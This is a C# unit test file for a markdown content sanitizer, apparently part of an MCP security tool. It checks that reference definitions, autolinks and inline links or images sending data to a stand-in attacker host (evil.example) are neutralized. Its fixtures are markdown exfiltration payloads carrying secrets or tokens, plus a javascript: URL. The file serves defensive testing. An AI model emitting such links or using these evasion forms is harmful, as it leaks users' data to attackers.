namespace McpGuard.Tests.Isolation;

/// <summary>The exfiltration-link rule on the markdown forms beyond inline links: reference definitions, autolinks, angle-bracket and parenthesized destinations, entity references, nested link text. Hand-written fixtures.</summary>
public sealed class ContentSanitizerLinkTests
{
    private static readonly ContentSanitizer s_sanitizer = new();

    private static SanitizedText Run(string text) => s_sanitizer.Sanitize(text);

    [Fact]
    public void Sanitize_ReferenceImageDefinitionCarryingData_DestinationReplacedAndSpanReported()
    {
        string text = "Chart: ![chart][c]\n\n[c]: https://evil.example/p.png?d=SECRET\n";

        SanitizedText result = Run(text);

        Assert.Equal("Chart: ![chart][c]\n\n[c]: \u27E6image removed: evil.example\u27E7\n", result.Text);
        SanitizerFinding finding = Assert.Single(result.Findings);
        Assert.Equal(("link.exfiltration-image", "evil.example"), (finding.RuleId, finding.Decoded));
        Assert.Equal("https://evil.example/p.png?d=SECRET", text.Substring(finding.Start, finding.Length));
        Assert.Equal("https://evil.example/p.png?d=SECRET", finding.Removed);
    }

    [Fact]
    public void Sanitize_ReferenceLinkDefinitionWithAngleBracketsAndTitle_DestinationAndTitleReplaced()
    {
        string text = "Read [the report][r].\n[r]: <https://evil.example/c?t=abc> \"Report\"\nNext line.";

        SanitizedText result = Run(text);

        Assert.Equal("Read [the report][r].\n[r]: \u27E6link removed: evil.example\u27E7\nNext line.", result.Text);
        SanitizerFinding finding = Assert.Single(result.Findings);
        Assert.Equal("link.exfiltration-link", finding.RuleId);
        Assert.Equal("<https://evil.example/c?t=abc> \"Report\"", text.Substring(finding.Start, finding.Length));
    }

    [Theory]
    [InlineData("![logo]\n\n[logo]: https://evil.example/logo.png")]
    [InlineData("![Logo][]\n\n[LOGO]: https://evil.example/logo.png")]
    [InlineData("![company logo][the   Logo]\n\n[The Logo]: https://evil.example/logo.png")]
    public void Sanitize_DefinitionWithoutDataUsedByImage_RemovedLikeAnInlineImage(string text)
    {
        SanitizedText result = Run(text);

        Assert.EndsWith(": \u27E6image removed: evil.example\u27E7", result.Text, StringComparison.Ordinal);
        Assert.Equal("link.exfiltration-image", Assert.Single(result.Findings).RuleId);
    }

    [Theory]
    [InlineData("See [the guide][g].\n\n[g]: https://other.example/guide")]
    [InlineData("See [g].\n\n[g]: <https://other.example/guide> 'Guide'")]
    [InlineData("An image of something else ![x][y] and a link [g].\n\n[g]: https://other.example/guide")]
    public void Sanitize_LinkDefinitionWithoutData_Kept(string text)
    {
        Assert.Same(text, Run(text).Text);
    }

    [Fact]
    public void Sanitize_ImageDefinitionOnAllowedHost_Kept()
    {
        var options = new SanitizerOptions();
        options.AllowedLinkHosts.Add("*.docs.example");
        string text = "![diagram][d]\n\n[d]: https://img.docs.example/a.png?v=2";

        Assert.Same(text, new ContentSanitizer(options).Sanitize(text).Text);
    }

    [Theory]
    [InlineData("   [r]: https://evil.example/?d=1", "   [r]: \u27E6link removed: evil.example\u27E7")]
    [InlineData("> [r]: https://evil.example/?d=1", "> [r]: \u27E6link removed: evil.example\u27E7")]
    [InlineData("- [r]: https://evil.example/?d=1", "- [r]: \u27E6link removed: evil.example\u27E7")]
    [InlineData("1. [r]:\n   https://evil.example/?d=1 (t)", "1. [r]:\n   \u27E6link removed: evil.example\u27E7")]
    [InlineData("[r]: javascript:alert(1)", "[r]: \u27E6link removed\u27E7")]
    public void Sanitize_DefinitionForms_DestinationReplaced(string text, string expected)
    {
        Assert.Equal(expected, Run(text).Text);
    }

    [Theory]
    [InlineData("    [r]: https://evil.example/?d=1")]
    [InlineData("Text [r]: https://evil.example/?d=1")]
    [InlineData("[r] : https://evil.example/?d=1")]
    public void Sanitize_NotADefinition_Kept(string text)
    {
        Assert.Same(text, Run(text).Text);
    }

    [Fact]
    public void Sanitize_AutolinkCarryingData_Replaced()
    {
        SanitizedText result = Run("Open <https://evil.example/c?token=abc123> now");

        Assert.Equal("Open \u27E6link removed: evil.example\u27E7 now", result.Text);
        SanitizerFinding finding = Assert.Single(result.Findings);
        Assert.Equal(("link.exfiltration-link", 5, 37), (finding.RuleId, finding.Start, finding.Length));
    }

    [Theory]
    [InlineData("Docs at <https://other.example/guide> and <mailto:a@b.example>.")]
    [InlineData("Generic <T> and <a:b> stay.")]
    public void Sanitize_AutolinkWithoutData_Kept(string text)
    {
        Assert.Same(text, Run(text).Text);
    }

    [Theory]
    [InlineData("![a](<https://evil.example/p.png?d=1>)", "a \u27E6image removed: evil.example\u27E7")]
    [InlineData("[t]( https://evil.example/x?d=(secret) )", "t \u27E6link removed: evil.example\u27E7")]
    [InlineData("[t](https://evil.example/&quest;d=SECRET)", "t \u27E6link removed: evil.example\u27E7")]
    [InlineData("![a [b] c](https://evil.example/p?d=1)", "![a [b] c]\u27E6link removed: evil.example\u27E7")]
    [InlineData("![a](https://evil.example/p.png?d=1\u27E6x\u27E7)", "a \u27E6image removed: evil.example\u27E7\u27E6x\u27E7)")]
    [InlineData("[t](https://evil.example/x<b>)", "t \u27E6link removed: evil.example\u27E7<b>)")]
    public void Sanitize_InlineDestinationForms_Neutralized(string text, string expected)
    {
        Assert.Equal(expected, Run(text).Text);
    }

    [Theory]
    [InlineData("See [A (b)](https://en.wiki.example/wiki/A_(b)) for details.")]
    [InlineData("[guide](<https://other.example/a guide>)")]
    public void Sanitize_InlineDestinationWithoutData_Kept(string text)
    {
        Assert.Same(text, Run(text).Text);
    }

    [Fact]
    public void Sanitize_LongDestination_NeutralizedUpToTheScanLimit()
    {
        string text = "![a](https://evil.example/p.png/" + new string('x', 5000) + ")";

        SanitizedText result = Run(text);

        Assert.StartsWith("a \u27E6image removed: evil.example\u27E7", result.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("](", result.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Chart: ![chart][c]\n\n[c]: https://evil.example/p.png?d=SECRET\n")]
    [InlineData("[r]: https://evil.example/x<!-- hidden -->")]
    [InlineData("[r]: <https://evil.example/?d=1\u27E6x\u27E7>")]
    [InlineData("<https://evil.example/?d=1\u27E6>")]
    [InlineData("![a[b](https://evil.example/?d=1)](https://evil.example/?e=2)")]
    public void Sanitize_LinkFormsTwice_SecondRunChangesNothing(string text)
    {
        string once = Run(text).Text;

        Assert.NotEqual(text, once);
        Assert.Equal(once, Run(once).Text);
    }
}
